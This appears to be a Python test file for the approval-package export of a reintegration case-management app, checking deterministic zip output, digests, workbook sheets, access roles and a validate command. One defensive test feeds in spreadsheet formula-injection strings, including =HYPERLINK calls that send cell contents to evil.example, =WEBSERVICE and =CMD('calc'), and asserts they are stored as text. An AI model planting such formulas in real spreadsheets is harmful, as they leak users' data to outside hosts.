"""The approval package: byte-identical on re-export, digests that match, a workbook that
opens, a plan file that `python -m reintegration validate` judges as the app did."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import sys
import zipfile
from datetime import date, datetime, timezone
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import select

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "approvals"))  # the shared plan factories

from approval_factories import Line, case_of  # noqa: E402
from approval_factories import approve, approver, comment, drafter, make_plan, pay  # noqa: E402,F401  (fixtures)
from reintegration.exports import package as packages  # noqa: E402
from reintegration.models import AuditEvent  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
DECIDED = datetime(2027, 1, 15, 10, 30, 7, tzinfo=timezone.utc)
SHEETS = {"en": ["Summary", "Plan and activity", "Budget lines", "Rate check", "Follow-up schedule",
                 "Decision trail", "Comments"],
          "da": ["Resumé", "Plan og aktivitet", "Budgetlinjer", "Satskontrol", "Opfølgningsplan", "Beslutningsspor",
                 "Kommentarer"]}


@pytest.fixture
def commenter(make_user):
    return make_user("cmm", name="Camilla Commenter")


@pytest.fixture
def approved(db, make_plan, approve, make_case, comment, commenter):
    from datetime import date

    case = make_case(children=[date(2018, 5, 1)], planned_return=date(2027, 3, 1))
    version = make_plan(case=case, lines=[
        Line(kind="cash", amount="4000.00", description="Monthly allowance"),
        Line(amount="14500.00", description="Two salon chairs, dryer, mirror", currency="NGN",
             amount_local="3625000", exchange_rate="0.004"),
    ])
    comment(version, commenter, "Debt to the uncle is settled")
    approve(version, now=DECIDED)
    db.refresh(version)
    return version


def rename(db, *users):
    """Every account given another name (and e-mail), as when an account is renamed or
    re-used for someone else after the decision."""
    for user in users:
        user.name = f"Someone else than {user.name}"
        user.email = f"renamed-{user.email}"
        db.add(user)
    db.commit()


def build(app, db, version, lang="en"):
    with app.test_request_context():
        return packages.build(db, version, app.extensions["rate_tables"], lang)


def test_exporting_twice_gives_identical_bytes(app, db, approved, approver, drafter, commenter):
    first = build(app, db, approved)
    # The names are those of the decision: renaming the approver, the drafter (who also
    # submitted) and the commenter afterwards changes no byte of the package.
    rename(db, approver, drafter, commenter)
    second = build(app, db, approved)
    assert first.data == second.data
    assert build(app, db, approved, "da").data == build(app, db, approved, "da").data
    assert first.filename == f"{case_of(db, approved).reference}-v1.zip"
    with zipfile.ZipFile(io.BytesIO(first.data)) as archive:
        infos = archive.infolist()
    assert [i.filename.rsplit(".", 1)[-1] for i in infos] == ["xlsx", "json", "html", "json"]
    assert infos[-1].filename == "manifest.json"
    assert {i.date_time for i in infos} == {(2027, 1, 15, 10, 30, 6)}
    assert {i.external_attr >> 16 for i in infos} == {0o100644}


def test_the_workbook_inside_is_deterministic_too(app, db, approved):
    data = build(app, db, approved).data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xlsx = archive.read(archive.namelist()[0])
    with zipfile.ZipFile(io.BytesIO(xlsx)) as inner:
        assert {i.date_time for i in inner.infolist()} == {(2027, 1, 15, 10, 30, 6)}
        assert b"2027-01-15T10:30:07Z" in inner.read("docProps/core.xml")


def test_manifest_lists_every_file_with_its_digest_and_the_decision(app, db, approved, approver, drafter,
                                                                   commenter):
    package = build(app, db, approved)
    with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        for entry in manifest["files"]:
            assert hashlib.sha256(archive.read(entry["name"])).hexdigest() == entry["sha256"]
        assert sorted(e["name"] for e in manifest["files"]) == sorted(n for n in archive.namelist()
                                                                     if n != "manifest.json")
    assert manifest["case_reference"] == case_of(db, approved).reference and manifest["version"] == 1
    assert manifest["rate_table"] == {"id": "2026-2029", "version": 1}
    assert (manifest["decision"], manifest["approver"]) == ("approved", approver.name)
    assert manifest["decided_at"] == "2027-01-15T10:30:07Z"
    assert (manifest["drafted_by"], manifest["submitted_by"]) == ([drafter.name], drafter.name)
    assert manifest["submitted_at"] == approved.submitted_at.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert [(c["author"], c["text"]) for c in manifest["comments"]] == [(commenter.name,
                                                                        "Debt to the uncle is settled")]
    assert manifest["comments"][0]["written_at"].endswith("Z")
    assert manifest["content_sha256"] == approved.content_sha256


@pytest.mark.parametrize("lang", ["en", "da"])
def test_the_workbook_opens_with_its_sheets_and_print_setup(app, db, approved, lang):
    package = build(app, db, approved, lang)
    with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
        wb = openpyxl.load_workbook(io.BytesIO(archive.read(archive.namelist()[0])))
    assert wb.sheetnames == SHEETS[lang]
    lines = wb.worksheets[2]
    assert lines.page_setup.orientation == "landscape" and lines.page_setup.fitToWidth == 1
    assert lines.print_title_rows == "$1:$1" and lines["A1"].font.bold
    assert lines["F2"].number_format == "#,##0.00" and lines["F3"].value == 14500
    assert lines["I3"].value == pytest.approx(0.004) and lines["H3"].value == 3625000
    rate_check = wb.worksheets[3]
    assert "40.000 kr." in " ".join(str(c.value) for c in rate_check["F"] if c.value)  # the source
    schedule = wb.worksheets[4]
    assert [c.value for c in schedule["A"][1:5]] == [1, 3, 6, 12]
    trail = wb.worksheets[5]
    assert trail.max_row == 2
    comments = wb.worksheets[6]
    assert comments.max_row == 2 and comments["B2"].number_format == "yyyy-mm-dd hh:mm:ss"


def test_the_plan_file_gives_the_apps_verdict_with_validate(app, db, approved, tmp_path):
    package = build(app, db, approved)
    with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
        document = json.loads(archive.read(f"{case_of(db, approved).reference}-v1.json"))
    assert document["reference_date"] == "2027-03-01"
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "reintegration", "validate", str(path)], cwd=ROOT,
                            capture_output=True, text=True, timeout=60)
    verdict = json.loads(result.stdout)
    assert result.returncode == 0 and verdict["ok"] is True
    assert (verdict["minor_children"], verdict["caps"]["total"]) == (1, "49000.00")


def test_only_approved_versions_have_a_package(app, db, make_plan, approve):
    sent_back = make_plan()
    approve(sent_back, action="send_back", reason="Fix it")
    with pytest.raises(packages.NotApproved):
        build(app, db, sent_back)


def test_download_from_the_plan_matches_the_command(app, db, approved, auth, runner, tmp_path, make_user):
    auth.login(make_user("caseworker", locale="da"))
    response = auth._client.get(f"/exports/package/{approved.id}")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    out = tmp_path / "package.zip"
    result = runner.invoke(args=["export-package", case_of(db, approved).reference, "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == response.data  # Danish by default on both
    assert response.headers["Cache-Control"] == "private, no-store"
    english = auth._client.get(f"/exports/package/{approved.id}?lang=en").data
    assert english != response.data
    assert db.exec(select(AuditEvent).where(AuditEvent.action == "export.package")).first()


def test_the_command_names_a_case_without_an_approved_version(runner, make_plan, db, tmp_path):
    version = make_plan()
    result = runner.invoke(args=["export-package", case_of(db, version).reference, "-o", str(tmp_path / "x.zip")])
    assert result.exit_code != 0 and "no approved version" in result.output


@pytest.mark.parametrize("role, status", [("caseworker", 200), ("approver", 200), ("partner", 403),
                                          ("admin", 403)])
def test_package_download_roles(auth, approved, make_user, role, status):
    auth.login(make_user(role))
    assert auth._client.get(f"/exports/package/{approved.id}").status_code == status


def test_cmm_downloads_only_packages_of_its_cases(auth, db, approved, make_user):
    contact = make_user("cmm")
    auth.login(contact)
    assert auth._client.get(f"/exports/package/{approved.id}").status_code == 404
    case = case_of(db, approved)
    case.cmm_contact_id = contact.id
    db.add(case)
    db.commit()
    assert auth._client.get(f"/exports/package/{approved.id}").status_code == 200


def test_a_submitted_version_has_no_package_to_download(auth, make_plan, approver):
    version = make_plan()
    auth.login(approver)
    assert auth._client.get(f"/exports/package/{version.id}").status_code == 404
    assert auth._client.get("/exports/package/999999").status_code == 404


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_workbook(app, db, approved, tmp_path):
    package = build(app, db, approved)
    with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
        (tmp_path / "plan.xlsx").write_bytes(archive.read(archive.namelist()[0]))
    result = subprocess.run(["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path),
                             str(tmp_path / "plan.xlsx")], capture_output=True, timeout=120)
    assert result.returncode == 0 and (tmp_path / "plan.csv").exists()


def test_the_command_takes_a_version_and_a_language(runner, db, approved, make_plan, approve, tmp_path):
    amendment = make_plan(case=case_of(db, approved), amends=approved)
    approve(amendment, now=datetime(2027, 2, 1, tzinfo=timezone.utc))
    ref = case_of(db, approved).reference
    out = tmp_path / "v1.zip"
    result = runner.invoke(args=["export-package", ref, "--version", "1", "--lang", "en", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    assert (manifest["version"], manifest["language"]) == (1, "en")
    latest = tmp_path / "latest.zip"
    assert runner.invoke(args=["export-package", ref, "-o", str(latest)]).exit_code == 0
    with zipfile.ZipFile(latest) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        trail = openpyxl.load_workbook(io.BytesIO(archive.read(archive.namelist()[0]))).worksheets[5]
    assert manifest["version"] == 2 and trail.max_row == 3  # both decisions in the trail


def test_text_that_a_spreadsheet_would_run_stays_text(app, db, make_plan, approve, make_case, comment, make_user):
    name = '=HYPERLINK("http://evil.example/?x="&B3,"open")'
    description = '=WEBSERVICE("http://evil.example/")'
    remark = '=HYPERLINK("http://evil.example/c","see")'
    author = make_user("cmm", name='=CMD("calc")')
    version = make_plan(case=make_case(person_name=name),
                        lines=[Line(kind="cash", amount="4000.00", description=description)])
    comment(version, author, remark)
    approve(version, now=DECIDED)
    db.refresh(version)
    result = build(app, db, version)
    with zipfile.ZipFile(io.BytesIO(result.data)) as archive:
        workbook = openpyxl.load_workbook(io.BytesIO(archive.read(next(n for n in archive.namelist()
                                                                        if n.endswith(".xlsx")))))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert {name, description, remark, author.name} <= values  # as typed, as text


@pytest.mark.parametrize("lang, words", [("en", ("Nigeria", "Education fees")), ("da", ("Nigeria", "Uddannelsesgebyrer"))])
def test_the_package_names_country_and_categories_in_words(app, db, make_plan, approve, make_case, lang, words):
    version = make_plan(case=make_case(planned_return=date(2027, 3, 1)),
                        lines=[Line(amount="1000.00", category="education_fees", description="School fees")])
    approve(version)
    db.refresh(version)
    with zipfile.ZipFile(io.BytesIO(build(app, db, version, lang).data)) as archive:
        page = archive.read(next(n for n in archive.namelist() if n.endswith(".html"))).decode()
    country, category = words
    assert f"<td>{country}</td>" in page and category in page and "education_fees" not in page


def test_the_printable_page_keeps_the_plans_line_breaks(app, db, make_plan, approve, make_case):
    """The archived page shows a plan's texts as typed: a description written over several
    lines (the activity, its steps) keeps its line breaks, as the comments do."""
    activity = "Hair salon in Benin City.\nStep 1: rent the chair.\nStep 2: buy the dryers."
    version = make_plan(case=make_case(planned_return=date(2027, 3, 1)), activity=activity,
                        lines=[Line(amount="1000.00", description="Dryer\nand chair")])
    approve(version)
    db.refresh(version)
    with zipfile.ZipFile(io.BytesIO(build(app, db, version).data)) as archive:
        page = archive.read(next(n for n in archive.namelist() if n.endswith(".html"))).decode()
    assert "td.text { white-space: pre-wrap; }" in page
    assert f'<td class="text">{activity}</td>' in page
    assert '<td class="text">Dryer\nand chair</td>' in page
